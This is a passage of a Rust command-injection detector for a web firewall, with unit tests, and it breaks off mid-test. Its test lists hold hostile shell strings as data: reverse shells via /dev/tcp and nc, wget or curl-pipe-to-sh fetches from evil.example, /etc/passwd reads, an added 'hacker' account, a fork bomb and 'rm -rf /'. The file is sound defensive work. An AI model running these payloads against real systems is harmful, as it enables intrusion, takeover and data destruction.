        let cmd = cmd.trim_start_matches([' ', '\\', '"', '\'']);
        let w: String = cmd
            .bytes()
            .take_while(|c| c.is_ascii_alphabetic())
            .map(|c| c.to_ascii_lowercase() as char)
            .collect();
        if matches!(
            w.as_str(),
            "shell"
                | "system"
                | "sh"
                | "databases"
                | "dump"
                | "load"
                | "import"
                | "output"
                | "once"
        ) {
            return Some(("rce.sqlite_dot_command", 0.8));
        }
    }
    None
}

/// Two or more commands chained with `;`/`&&`/`|` where no prose puts
/// them (`cd /;cd etc;column passwd`): every segment opens with a known
/// binary, and a separator touches the word before it (`x;y`, not `x; y`).
fn command_chain(s: &str) -> Option<Found> {
    let b = s.as_bytes();
    let tight = b.windows(2).any(|w| {
        matches!(w[0], b';' | b'|' | b'&') && !w[1].is_ascii_whitespace()
            || matches!(w[1], b';' | b'|' | b'&') && !w[0].is_ascii_whitespace() && w[0] != w[1]
    });
    if !tight {
        return None;
    }
    let (mut known, mut shell) = (0, false);
    let segs = s
        .split([';', '|', '&', '\n'])
        .filter(|x| !x.trim().is_empty());
    for (k, seg) in segs.take(16).enumerate() {
        let (w, rest) = word(seg.trim_start());
        match binary(&w) {
            Some(strong) => {
                known += 1;
                // A program no one names in prose, or an option or path argument.
                let r = rest.trim_start();
                shell |= strong && !COMMONISH.contains(&w.as_str())
                    || r.starts_with(['/', '~', '$'])
                    || r.starts_with('-')
                        && r.as_bytes().get(1).is_some_and(u8::is_ascii_alphabetic);
            }
            None if k == 0 => return None,
            None => {}
        }
    }
    (known >= 2 && shell).then_some(("rce.command_chain", 0.75))
}

/// Text filters that only read what they are given.
const FILTERS: &[&str] = &[
    "grep", "egrep", "fgrep", "rg", "wc", "sort", "uniq", "head", "tail", "cut", "tr", "nl", "rev",
    "tac", "column", "fold", "comm", "less", "more", "jq",
];

/// A value that *is* a pipeline of text filters over relative paths
/// (`grep -r 'TODO' src/ | wc -l`), with no substitution, redirection, absolute
/// or parent path: how people write about the shell, not how they attack it
/// (an injection has to break out of a command first, or reach for a file,
/// a network tool or a shell).
fn documented_pipeline(s: &str) -> bool {
    let t = s.trim_start();
    if t.is_empty()
        || t.starts_with([';', '|', '&'])
        || t.contains(['$', '`', '>', '<', '\n', '\r'])
        || gate::has(t, "..")
    {
        return false;
    }
    t.split([';', '|', '&'])
        .filter(|seg| !seg.trim().is_empty())
        .take(16)
        .all(|seg| {
            let (w, rest) = word(seg.trim_start());
            FILTERS.contains(&w.as_str()) && !gate::has(rest, " /") && !gate::has(rest, " ~")
        })
}

/// A brace expansion at `at` (`{cat,/etc/passwd}`, `{l,-lh}s`, `{,ip,a}`),
/// expanded the way the shell would and judged as the command it makes.
/// Expansions with a prefix, suffix or empty member only exist to build a
/// command out of pieces: any known binary in them counts.
fn brace_expansion(s: &str, at: usize) -> Option<Found> {
    let b = s.as_bytes();
    let body_len = b.get(at + 1..)?.iter().take(96).position(|c| *c == b'}')?;
    let body = s.get(at + 1..at + 1 + body_len)?;
    if !body.contains(',') || body.contains([' ', '\t', '\n', '{']) {
        return None;
    }
    let wordish =
        |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b'?' | b'*');
    let pre = b
        .get(..at)?
        .iter()
        .rev()
        .take(32)
        .take_while(|c| wordish(c))
        .count();
    let prefix = s.get(at - pre..at)?;
    let close = at + 1 + body_len;
    let post = b
        .get(close + 1..)?
        .iter()
        .take(32)
        .take_while(|c| wordish(c))
        .count();
    let suffix = s.get(close + 1..close + 1 + post)?;
    let parts: Vec<&str> = body.split(',').take(16).collect();
    let trick = !prefix.is_empty() || !suffix.is_empty() || parts.iter().any(|p| p.is_empty());
    let mut words = parts
        .iter()
        .map(|p| format!("{prefix}{p}{suffix}"))
        .filter(|w| !w.is_empty());
    let first = words.next()?;
    let (w, _) = word(&first);
    let base = w.rsplit(['/', '\\']).next().unwrap_or(&w);
    let known = if base.contains(['?', '*']) {
        glob_binary(base)
    } else {
        binary(base)
    };
    match known {
        Some(_) if trick => Some(("rce.brace_expansion", 0.85)),
        Some(true) => Some(("rce.brace_expansion", 0.85)),
        Some(false) if words.any(|a| a.starts_with(['/', '~', '$'])) => {
            Some(("rce.brace_expansion", 0.85))
        }
        _ => None,
    }
}

/// cmd.exe `FOR ... %x IN (...)` loops and `IF` conditions, at the start or after a separator.
static CMD_CONTROL: LazyLock<Option<regex::Regex>> = LazyLock::new(|| {
    regex::Regex::new(concat!(
        r#"(?i)(?:^|[&|;(\n])\s*@?(?:"#,
        r#"for\s+(?:/[dlrf]\s+)*(?:\\?"[^"]*"\s+|[a-z]:\S*\s+)?%\S{0,32}\s+in\s*\("#,
        r#"|if(?:\s+|\s*/i\s+)(?:not\s+)?(?:exist\s+\S|errorlevel\s+\d|defined\s+\w|cmdextversion\s+\d"#,
        r#"|"[^"]*"\s*==|\S+\s*==\s*\S|\(?\s*\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S))"#
    ))
    .ok()
});

/// Judges a decoded value.
/// Shell expansions no other language writes: `$[2+2]`, `$[]` (old
/// arithmetic), `$((..))`, `${x#pat}`/`${x%pat}`/`${x//a/b}` (parameter
/// operators), `<(cmd ..)`/`>(cmd ..)` (process substitution) and a value
/// opening with the `() {` of a function definition (shellshock's shape).
fn shell_expansion(s: &str) -> Option<Found> {
    let b = s.as_bytes();
    if s.trim_start().starts_with("() {") {
        return Some(("rce.shellshock", 0.85));
    }
    let mut from = 0;
    let mut n = 0;
    while let Some(p) = b
        .get(from..)
        .and_then(|r| memchr::memchr3(b'$', b'<', b'>', r))
    {
        let at = from + p;
        from = at + 1;
        n += 1;
        if n > 64 {
            break;
        }
        let rest = b.get(at + 1..).unwrap_or(&[]);
        match b[at] {
            b'$' if rest.first() == Some(&b'[') => {
                // `$[]`, `$[2+2]`: not JSONPath's `$[0]` or `$['k']`.
                let body = rest.get(1..).unwrap_or(&[]);
                let Some(end) = body.iter().take(64).position(|c| *c == b']') else {
                    continue;
                };
                let inner = body.get(..end).unwrap_or(&[]);
                let arith = inner.iter().any(|c| matches!(c, b'+' | b'*' | b'%'))
                    && inner
                        .iter()
                        .all(|c| c.is_ascii_alphanumeric() || b"+-*/% ()".contains(c));
                if inner.is_empty() || arith {
                    return Some(("rce.arithmetic", 0.65));
                }
            }
            b'$' if rest.starts_with(b"((")
                && rest
                    .get(2..)
                    .and_then(|r| memchr::memmem::find(r, b"))"))
                    .is_some_and(|e| e < 256) =>
            {
                return Some(("rce.arithmetic", 0.65));
            }
            b'$' if rest.first() == Some(&b'{') => {
                let body = rest.get(1..).unwrap_or(&[]);
                let name = body
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                    .count();
                let op = body.get(name..).unwrap_or(&[]);
                let closes = op.iter().take(128).any(|c| *c == b'}');
                if name > 0
                    && closes
                    && (op.starts_with(b"#")
                        || op.starts_with(b"%")
                        || op.starts_with(b"//")
                        || op.starts_with(b"^^")
                        || op.starts_with(b",,"))
                {
                    return Some(("rce.parameter_expansion", 0.65));
                }
            }
            b'<' | b'>' if rest.first() == Some(&b'(') => {
                let boundary = at == 0 || b.get(at - 1).is_some_and(u8::is_ascii_whitespace);
                let inner = s.get(at + 2..).unwrap_or("");
                let (w, after) = word(inner);
                if boundary && !w.is_empty() && binary(&w).is_some() && after.contains(')') {
                    return Some(("rce.process_substitution", 0.7));
                }
            }
            _ => {}
        }
    }
    None
}

pub fn detect(s: &str) -> Option<Found> {
    let b = s.as_bytes();
    let mut found = None;
    if s.len() >= 6
        && b.windows(3).any(|w| {
            (w[0] | 0x20 == b'f' && w[1] | 0x20 == b'o' && w[2] | 0x20 == b'r')
                || (w[0] | 0x20 == b'i'
                    && w[1] | 0x20 == b'f'
                    && (w[2].is_ascii_whitespace() || w[2] == b'/'))
        })
        && CMD_CONTROL.as_ref().is_some_and(|r| r.is_match(s))
    {
        return Some(("rce.cmd_control", 0.8));
    }
    // Needles are lower case: compared in place, no lower-cased copy.
    let lower_has = |needle: &str| super::gate::contains_ignore_case(b, needle.as_bytes());
    if memchr::memchr(b'$', b).is_some() && (gate::has(s, "${IFS}") || gate::has(s, "$IFS")) {
        found = Some(("rce.ifs", 0.8));
    }
    if memchr::memchr(b'/', b).is_some() && (gate::has(s, "/dev/tcp/") || gate::has(s, "/dev/udp/"))
    {
        found = best(found, Some(("rce.dev_tcp", 0.9)));
    }
    found = best(found, command_at(s, false));
    if b.first() == Some(&b'>') {
        found = best(found, redirect_start(s));
    }
    if memchr::memchr(b'$', b).is_some() {
        found = best(found, variable_concat(b));
    }
    let mut i = 0;
    let mut n = 0;
    let mut md_open = false;
    let blocks = code_blocks(s);
    while i < b.len() && n < 64 {
        let c = b[i];
        let sep = match c {
            b';' | b'\n' => Some(1),
            b'|' | b'&' => Some(if b.get(i + 1) == Some(&c) { 2 } else { 1 }),
            b'$' if b.get(i + 1) == Some(&b'(') => Some(2),
            // A backtick starts a substitution unless it opens Markdown code after a blank.
            // A run of backticks is a Markdown fence, never a substitution.
            // Exactly two between words close one substitution and open the next
            // (`` `cut x``dig y` ``).
            b'`' if i > 0
                && b[i - 1] != b'`'
                && !b[i - 1].is_ascii_whitespace()
                && b.get(i + 1) == Some(&b'`')
                && b.get(i + 2).is_some_and(|c| c.is_ascii_alphabetic())
                && b.get(..i).is_some_and(|h| h.contains(&b'`')) =>
            {
                i += 1;
                Some(1)
            }
            b'`' if i > 0 && b[i - 1] == b'`' || b.get(i + 1) == Some(&b'`') => {
                while b.get(i + 1) == Some(&b'`') {
                    i += 1;
                }
                None
            }
            // vi/ex `:!cmd`, `\!cmd`: run a shell command from the editor.
            b'!' if i > 0 && matches!(b[i - 1], b'\\' | b':') => Some(1),
            // The backtick that closes Markdown code opened after a blank
            // (`` the `config` file ``) starts nothing.
            b'`' if md_open => {
                md_open = false;
                None
            }
            b'`' if i == 0 || !b[i - 1].is_ascii_whitespace() => Some(1),
            // After a blank behind one token that is no word (`1.1.1.1 `id``,
            // `example.com `cat /etc/passwd``): the argument the value was
            // meant to be, then a substitution; not prose quoting code.
            b'`' if argument_before(b, i) => Some(1),
            b'`' => {
                md_open = true;
                None
            }
            // A group command `{ cmd; }`; a brace expansion is judged whole below.
            // (`;` before the closing brace: GraphQL's `{ node { id } }` is none).
            b'{' if matches!(b.get(i + 1), Some(b' ' | b'\t'))
                && b.get(i..).is_some_and(|r| {
                    let body = r
                        .iter()
                        .take(256)
                        .position(|c| *c == b'}')
                        .map_or(r, |e| &r[..e]);
                    body.contains(&b';')
                }) =>
            {
                Some(1)
            }
            b'{' => {
                found = best(found, brace_expansion(s, i));
                None
            }
            _ => None,
        };
        // Shell lines in a code block (a README, an issue, a chat message,
        // a wiki page) are shown, not run: a line's start and a separator
        // written with blanks on both sides, as people write them
        // (`rm -rf dist && npm ci`, `curl -fsSL URL | sh`), start nothing
        // there. Tight separators (`;cat /etc/passwd`, `x|id`) and
        // substitutions are judged as anywhere else.
        let shown = sep.is_some()
            && !blocks.is_empty()
            && (c == b'\n'
                || matches!(c, b';' | b'|' | b'&')
                    && i.checked_sub(1)
                        .and_then(|p| b.get(p))
                        .is_some_and(u8::is_ascii_whitespace)
                    && sep
                        .and_then(|len| b.get(i + len))
                        .is_some_and(u8::is_ascii_whitespace))
            && blocks.iter().any(|(a, e)| (*a..*e).contains(&i));
        if let (true, Some(len)) = (shown, sep) {
            // Past the whole separator: the second `&` of a shown `&&` is
            // no separator of its own.
            i += len;
        } else if let Some(len) = sep {
            n += 1;
            let rest = s.get(i + len..).unwrap_or("");
            // A media data URL's `;base64,` (`data:image/png;base64,iVBOR...`,
            // an avatar): to a shell `base64,iVBOR...` is one word, no command.
            // (`data:text/plain;base64,` stays read: PHP includes it as code.)
            let data_url = c == b';'
                && rest
                    .get(..7)
                    .is_some_and(|w| w.eq_ignore_ascii_case("base64,"))
                && ["data:image/", "data:audio/", "data:video/", "data:font/"]
                    .iter()
                    .any(|m| super::gate::contains_ignore_case(b, m.as_bytes()));
            let product = c == b';' && product_token(rest);
            if !data_url && !product {
                found = best(found, command_at(rest, true));
            }
            if found.is_some_and(|f| f.1 >= 0.9) {
                break;
            }
            i += len;
        } else {
            i += 1;
        }
    }
    if found.is_none() && s.len() <= 4096 && b.contains(&b'/') && s.contains(['?', '*', '[']) {
        found = glob_path(s);
    }
    if found.is_none() {
        found = leading_separator(s).or_else(|| sqlite_dot_command(s));
    }
    if found.is_none() && s.len() <= 512 {
        found = command_chain(s);
    }
    if found.is_none() && s.len() <= 4096 && b.iter().any(|c| matches!(c, b'$' | b'(')) {
        found = shell_expansion(s);
    }
    if found.is_none() {
        found = stack_expansion(s.trim());
    }
    if found.is_some_and(|f| matches!(f.0, "rce.command" | "rce.command_start"))
        && documented_pipeline(s)
    {
        found = None;
    }
    if found.is_none() && memchr::memchr(b'(', b).is_some() {
        for (needle, rule) in [
            ("invoke-expression", "rce.powershell"),
            ("iex(", "rce.powershell"),
            ("new-object net.webclient", "rce.powershell"),
            ("downloadstring(", "rce.powershell"),
        ] {
            if lower_has(needle) {
                found = Some((rule, 0.85));
            }
        }
    }
    if found.is_none()
        && lower_has("powershell")
        && (lower_has(" -enc") || lower_has(" -e ") || lower_has(" -c"))
    {
        found = Some(("rce.powershell", 0.85));
    }
    found
}

/// The byte ranges of the closed code blocks in `s`, at most 16: Markdown
/// fences ([`markdown_fences`]) and blocks written as markup
/// ([`tagged_code`]).
fn code_blocks(s: &str) -> Vec<(usize, usize)> {
    let mut out = vec![];
    tagged_code(s, &mut out);
    markdown_fences(s, &mut out);
    out
}

/// Code blocks written as markup (HTML's `<pre>` and `<code>`, MediaWiki's
/// `<syntaxhighlight>` and `<source>`, BBCode's `[code]`, Jira's and
/// Confluence's `{code:bash}` and `{noformat}`), closed, added to `out` (16
/// in all at most): from the opening tag's `>`, `]` or `}` to its end tag.
fn tagged_code(s: &str, out: &mut Vec<(usize, usize)>) {
    let b = s.as_bytes();
    if memchr::memchr3(b'<', b'[', b'{', b).is_none() {
        return;
    }
    for (open, close, end) in [
        ("<pre", "</pre>", b'>'),
        ("<code", "</code>", b'>'),
        ("<syntaxhighlight", "</syntaxhighlight>", b'>'),
        ("<source", "</source>", b'>'),
        ("[code", "[/code]", b']'),
        // Jira and Confluence wiki markup: `{code:bash}...{code}`, `{noformat}`.
        ("{code", "{code}", b'}'),
        ("{noformat", "{noformat}", b'}'),
    ] {
        let mut from = 0;
        while out.len() < 16 {
            let Some(at) = b
                .get(from..)
                .and_then(|r| gate::find_ignore_case(r, open.as_bytes()))
            else {
                break;
            };
            let at = from + at;
            // The tag's name ends there: `<pre>`, `<pre class=...>`, not `<prefix>`.
            let after = at + open.len();
            if !b
                .get(after)
                .is_some_and(|c| *c == end || c.is_ascii_whitespace() || matches!(c, b'=' | b':'))
            {
                from = after;
                continue;
            }
            let Some(gt) = b.get(after..).and_then(|r| memchr::memchr(end, r)) else {
                break;
            };
            let gt = after + gt;
            let Some(stop) = b
                .get(gt..)
                .and_then(|r| gate::find_ignore_case(r, close.as_bytes()))
            else {
                break;
            };
            out.push((gt, gt + stop));
            from = gt + stop + close.len();
        }
    }
}

/// Whether the text before position `i` (a backtick after a blank) is one
/// token that is not a plain word: an address, a host name, a number, a
/// path, a `key=value` (what a command's argument looks like), so the
/// backtick opens a substitution after it rather than Markdown code in a
/// sentence (`the `config` file`, `try `ls -la``). An argument is short:
/// a longer head is not read (so each backtick costs a bounded scan).
fn argument_before(b: &[u8], i: usize) -> bool {
    let head = b.get(..i).unwrap_or(&[]).trim_ascii_end();
    if head.len() > 256 {
        return false;
    }
    let head = head.trim_ascii_start();
    !head.is_empty()
        && !head.iter().any(u8::is_ascii_whitespace)
        && !head.iter().all(u8::is_ascii_alphabetic)
}

/// The closed Markdown code blocks in `s`, added to `out` (16 in all at
/// most): from the end of an opening fence's line (three or more backticks
/// or tildes, up to three spaces in, an optional language) to the start
/// of the closing fence line.
fn markdown_fences(s: &str, out: &mut Vec<(usize, usize)>) {
    if memchr::memchr2(b'`', b'~', s.as_bytes()).is_none()
        || !gate::has(s, "```") && !gate::has(s, "~~~")
    {
        return;
    }
    let mut open: Option<(usize, u8)> = None;
    let mut at = 0;
    for line in s.split_inclusive('\n') {
        let t = line.trim_start_matches(' ');
        let fence = (line.len() - t.len() <= 3)
            .then(|| t.as_bytes().first().copied())
            .flatten()
            .filter(|c| matches!(c, b'`' | b'~') && t.as_bytes().starts_with(&[*c; 3]));
        match (open, fence) {
            // From the newline that ends the opening fence's line.
            (None, Some(c)) => open = Some((at + line.trim_end_matches('\n').len(), c)),
            (Some((start, c)), Some(f)) if f == c && t.trim_end().bytes().all(|x| x == c) => {
                if out.len() == 16 {
                    break;
                }
                out.push((start, at));
                open = None;
            }
            _ => {}
        }
        at += line.len();
    }
}

/// What follows a `;` is a capitalised word (not all capitals) with no
/// shell argument (`(compatible; Nmap Scripting Engine; ...)`,
/// `(compatible; Wget)`, `; Python rocks`): a product token in a
/// User-Agent comment, or prose.
/// Unix shells, to which `;` separates commands, find programs by their
/// lower-case names, so `Wget` runs nothing there; PowerShell would run it,
/// but a fetch or a shell written that way carries an argument: an option,
/// a path, a URL or a redirection, which keeps the word judged.
fn product_token(rest: &str) -> bool {
    let t = rest.trim_start_matches([' ', '\t']);
    if !t.as_bytes().first().is_some_and(u8::is_ascii_uppercase) {
        return false;
    }
    let end = t
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
        .unwrap_or(t.len());
    // All capitals (`;CHMOD +X EVIL.PHP`) is a shell line shouted to get
    // past a case-sensitive filter, no product name.
    if !t
        .get(..end)
        .is_some_and(|w| w.bytes().any(|c| c.is_ascii_lowercase()))
    {
        return false;
    }
    let after = t.get(end..).unwrap_or("");
    let next = after.trim_start_matches([' ', '\t', '+']);
    !strong_args(after)
        && !next.starts_with(['|', '>', '<', '&', '`', '$', '\'', '"'])
        && !next
            .get(..4)
            .is_some_and(|p| p.eq_ignore_ascii_case("http") || p.eq_ignore_ascii_case("ftp:"))
}

/// A whole value that is a directory-stack tilde (`~+`, `~-`, `~+5`, `~-1`:
/// a sign, then at most two digits) or two history expansions or more
/// (`!-1!-2`, `!3!4`). Prose says `~5 min` or `!!`; a signed tilde or a
/// chain of history designators alone is shell.
fn stack_expansion(t: &str) -> Option<Found> {
    let b = t.as_bytes();
    if let [b'~', b'+' | b'-', digits @ ..] = b {
        if digits.len() <= 2 && digits.iter().all(u8::is_ascii_digit) {
            return Some(("rce.tilde_expansion", 0.6));
        }
    }
    if b.first() != Some(&b'!') || b.len() > 64 {
        return None;
    }
    let mut n = 0;
    for part in t.split('!').skip(1) {
        let d = part.strip_prefix('-').unwrap_or(part);
        if d.is_empty() || d.len() > 4 || !d.bytes().all(|c| c.is_ascii_digit()) {
            return None;
        }
        n += 1;
    }
    (n >= 2).then_some(("rce.history_expansion", 0.6))
}

/// A whole value that names a tool under `bin/` or `sbin/` without the
/// leading slash (`bin/ansible`, `usr/sbin/visudo`): level 2, since a
/// settings field may hold a relative tool path.
fn relative_tool(t: &str) -> Option<Found> {
    let lower = t.to_ascii_lowercase();
    let rest = lower.strip_prefix("usr/").unwrap_or(&lower);
    let rest = rest.strip_prefix("local/").unwrap_or(rest);
    let tool = rest
        .strip_prefix("bin/")
        .or_else(|| rest.strip_prefix("sbin/"))?;
    let known = !tool.is_empty()
        && tool
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
        && (binary(tool).is_some() || FAMILIES.contains(&tool));
    known.then_some(("rce.pl2.relative_tool", 0.6))
}

// ---- Paranoia levels 2-4 -------------------------------------------------

/// Tools CRS's 932236 word list names that the level-1 tables leave out
/// because values use the words too: each with what must follow it.
const PL2_TOOLS: &[(&str, Follow)] = &[
    ("shutdown", Follow::End),
    ("pip", Follow::Install),
    ("pip3", Follow::Install),
    ("pipx", Follow::Install),
    ("chef", Follow::Word),
    ("rc", Follow::Script),
    ("top", Follow::AfterSeparator),
    ("at", Follow::Time),
    ("kill", Follow::Signal),
];

#[derive(Clone, Copy, PartialEq)]
enum Follow {
    /// The whole value is the tool.
    End,
    /// `install` (a package manager).
    Install,
    /// Any word (a subcommand).
    Word,
    /// A script name (`*.sh`).
    Script,
    /// Anything, but only after `;`, `|`, `&` or a newline.
    AfterSeparator,
    /// A time (`2:00`), after a separator.
    Time,
    /// A quoted or bare signal (`'-'9`, `-9`).
    Signal,
}

/// Shell commands of CRS's paranoia levels 2-3 that the level-1 rules
/// leave to the level: tool words benign text also uses (`shutdown`, `pip
/// install`, `;top`), tilde and history expansions (`~0`, `!!`), a short
/// tool piped at an argument (`|vi (x`). Rule ids carry the level.
pub fn paranoid(s: &str, level: u8) -> Option<Found> {
    if level < 2 || s.len() > 4096 {
        return None;
    }
    let t = s.trim();
    // Each command position: the start, and after a separator.
    let mut starts: Vec<(usize, bool)> = vec![(0, false)];
    for (i, c) in t.bytes().enumerate().take(4096) {
        if matches!(c, b';' | b'|' | b'&' | b'\n') {
            starts.push((i + 1, true));
        }
        if starts.len() > 16 {
            break;
        }
    }
    for &(at, after_sep) in &starts {
        let rest = t.get(at..).unwrap_or("").trim_start();
        let (w, tail) = word(rest);
        let tail = tail.trim_start();
        let Some((_, follow)) = PL2_TOOLS.iter().find(|(n, _)| *n == w) else {
            continue;
        };
        let hit = match follow {
            Follow::End => tail.is_empty(),
            Follow::Install => tail.starts_with("install "),
            Follow::Word => tail.starts_with(|c: char| c.is_ascii_alphabetic()) && at == 0,
            Follow::Script => tail
                .split_whitespace()
                .next()
                .is_some_and(|a| a.ends_with(".sh")),
            Follow::AfterSeparator => after_sep,
            Follow::Time => {
                after_sep
                    && tail.starts_with(|c: char| c.is_ascii_digit())
                    && tail
                        .split_whitespace()
                        .next()
                        .is_some_and(|a| a.contains(':'))
            }
            Follow::Signal => tail.starts_with("'-'") || tail.starts_with("-9"),
        };
        if hit {
            return Some(("rce.pl2.tool_word", 0.6));
        }
    }
    if let Some(f) = relative_tool(t) {
        return Some(f);
    }
    // `~0`, `~+`, `~-`: tilde expansion of the directory stack.
    let b = t.as_bytes();
    if b.len() >= 2
        && b[0] == b'~'
        && b[1..]
            .iter()
            .all(|c| c.is_ascii_digit() || matches!(c, b'+' | b'-'))
    {
        return Some(("rce.pl2.tilde_expansion", 0.6));
    }
    if level < 3 {
        return None;
    }
    // `!!`, `!1`, `!-2`: history expansion as the whole value.
    if b.len() >= 2
        && b[0] == b'!'
        && (b[1..] == *b"!" || b[1..].iter().all(|c| c.is_ascii_digit() || *c == b'-'))
    {
        return Some(("rce.pl3.history_expansion", 0.55));
    }
    // `|vi (x`, `&w (x`: a short tool after a separator, then `(`.
    if matches!(b.first(), Some(b'|' | b'&' | b';')) {
        let (w, tail) = word(t.get(1..).unwrap_or(""));
        if (1..=3).contains(&w.len())
            && w.bytes().all(|c| c.is_ascii_lowercase())
            && tail.trim_start().starts_with('(')
        {
            return Some(("rce.pl3.piped_tool", 0.55));
        }
    }
    // `'id'`, `"id"`: a quoted bare `id`.
    if matches!(t, "'id'" | "\"id\"") {
        return Some(("rce.pl3.quoted_id", 0.55));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks() {
        for a in [
            "127.0.0.1;cat /etc/passwd",
            "$[2+2]",
            "$[]",
            "${x#{}}",
            "${PATH#{}/}",
            "$(($() 42))",
            "<(cat file)",
            ">(tee log)",
            "() {",
            "() { :; }",
            "$SHELL -c \"echo hi\"",
            "${SHELL} -c \"echo hi\"",
            "'cmd=a; sh$XX -c whoami",
            "x | id",
            "x && whoami",
            "$(whoami)",
            "`id`",
            "a;c'a't /etc/passwd",
            "a;/bin/c?t /etc/passwd",
            "a;cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "x||ping -c 10 127.0.0.1",
            "| type c:\\boot.ini",
            "& dir c:\\",
            "/bin/bash -c 'id'",
            "x;wget http://evil/x.sh",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "x\nls -la",
            "powershell -enc SQBFAFgA",
            "for /f \"delims=\" %G IN ('SET') DO @Echo %G",
            "& FOR %@ IN (a,b,c)DO cmd",
            "if not (2 equ 2) echo hey",
            "IF EXIST C:\\pagefile.sys CMD",
            "if \"%1\"==\"\" goto ERROR",
            "time sh -c whoami",
            "nohup ifconfig",
            "ansible-playbook site.yml",
            "cat /path/file.gz",
            ":(){ :|:& };:",
            "alias ll='rm -rf /'",
            "cat /etc/pa[s]swd",
            "visudo",
        ] {
            assert!(detect(a).is_some_and(|f| f.1 >= 0.5), "missed {a:?}");
        }
    }

    /// A capitalised word after `;` is a product token or prose unless a
    /// shell argument follows it.
    #[test]
    fn product_tokens_after_a_semicolon() {
        for b in [
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Mozilla/5.0 (compatible; Wget)",
            "Mozilla/5.0 (compatible; Python requests)",
            "Mozilla/5.0 (compatible; Curl 7.1)",
            "Mozilla/5.0 (compatible; Telnet Checker)",
            "we tried it; Perl was faster",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
        for a in [
            "x; Wget http://evil.example/x.sh",
            "x;Cat /etc/passwd",
            "x; Nc -e /bin/sh 10.0.0.1 4444",
            "x; Whoami > /tmp/o",
            ";CHMOD +X EVIL.PHP",
            "x; wget)",
            "x; nmap scan",
            "x | Whoami",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
    }

    /// Time-based and account probes of blind injection: `sleep N`,
    /// `ping HOST`, `net user` after a separator or in a substitution; the
    /// same words running on as a sentence are prose.
    #[test]
    fn blind_probes() {
        for a in [
            "a; sleep 10",
            ";sleep 5;",
            "`sleep 10`",
            "$(sleep 10)",
            "x|sleep 2.5#",
            "x\nsleep 10",
            "a;$(printf 'whoami')",
            "x; ping 127.0.0.1",
            "| net user",
            "& net user hacker P@ss1 /add",
            "| NET LOCALGROUP administrators",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
        for b in [
            "so tired; sleep 10 hours tonight",
            "ok; ping me",
            "got it; ping me later",
            "revenue up; net user growth was flat this quarter",
            "sleep 10",
            "net user",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
    }

    /// A backtick after a blank opens Markdown code in prose, but behind a
    /// lone argument (an address, a host, a number) it is a substitution.
    #[test]
    fn backtick_after_an_argument_is_a_substitution() {
        for a in [
            "1.1.1.1 `whoami`",
            "127.0.0.1 `id`",
            "example.com `cat /etc/passwd`",
            "ip=127.0.0.1 `id`",
            "  10.0.0.1  `uname -a`",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
        for b in [
            "the `config` file",
            "try `ls -la`",
            "run `npm ci` then `npm test`",
            "type `uname -a` and paste the output",
            "v1.2.3 `beta`",
            "Use `curl -s https://api.example.com | jq .` to check",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
        // The head is read only when short: linear on a long one.
        let long = format!("{}{}", "a.".repeat(50_000), " `x`".repeat(20_000));
        assert_eq!(detect(&long), None);
    }

    /// Shell lines in a Markdown code block (or `<pre>`, `<code>`,
    /// `<syntaxhighlight>`, `[code]`) are shown, not run: line starts
    /// and separators written with blanks there start nothing. Tight
    /// separators, substitutions and `/dev/tcp` in a block still count, and
    /// so does the same text outside a closed block.
    #[test]
    fn markdown_code_blocks_show_commands() {
        for b in [
            "```bash\nrm -rf node_modules && npm ci\nnpm test -- --runInBand\n```",
            "Install:\n\n```sh\ncurl -fsSL https://get.example.com/install.sh | sh\n```\nthen log in",
            "Repro:\n~~~\ncd api && make build\n./bin/api --port 8080 && sleep 1\n~~~",
            "  ```\n  sudo systemctl restart nginx ; tail -f /var/log/nginx/error.log\n  ```",
            "Setup:\n```\nmake && sudo make install\n```",
            "== Setup ==\n<syntaxhighlight lang=\"bash\">\n./configure && make && sudo make install\n</syntaxhighlight>",
            "<pre><code class=\"language-sh\">curl -fsSL https://get.example.com | sh\n</code></pre>",
            "[code]\nmake && sudo make install\n[/code]",
            "{code:bash}\nrm -rf /tmp/build && make all\n{code}",
            "Steps:\n{noformat}\ncd api && make test\n{noformat}",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
        for a in [
            "```\n;cat /etc/passwd\n```",
            "x\n```\n|id\n```",
            "```\n$(curl http://evil.example/x|sh)\n```",
            "```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```",
            "```\n;wget http://evil.example/x -O /tmp/x;chmod +x /tmp/x\n```",
            // Not closed: no code block.
            "```bash\nrm -rf node_modules && npm ci",
            // Outside the block.
            "```\nls\n```\nx;cat /etc/passwd",
            "<pre>\n;cat /etc/passwd\n</pre>",
            "<prefix>\nx; sudo make install\n</prefix>",
            "make && sudo make install",
            "{code}\n;cat /etc/passwd\n{code}",
            "{code:bash}\nrm -rf /tmp/build && make all",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
        assert_eq!(code_blocks("a\n```x\nb\n```\nc"), vec![(6, 9)]);
        assert_eq!(code_blocks("{code:sh}x{code}"), vec![(8, 10)]);
        assert_eq!(code_blocks("```\nb\n~~~\nc"), vec![]);
        assert_eq!(code_blocks("<pre>x</pre>"), vec![(4, 6)]);
    }

    #[test]
    fn hard_negatives() {
        for b in [
            "$[0].name",
            "$['store'].book",
            "price: ${amount}",
            "I'm mad >(",
            "see <(the notes)",
            "x = () => { return 1 }",
            "total $((5)",
            "Tom & Jerry",
            "Set $SHELL to zsh",
            "price in $USD; total",
            "see $HOME/docs",
            "R&D; sales",
            "I love dogs; cat owners too",
            "cats | dogs",
            "run `ls -la` to list files",
            "id",
            "echo chamber",
            "find a store near me",
            "type here",
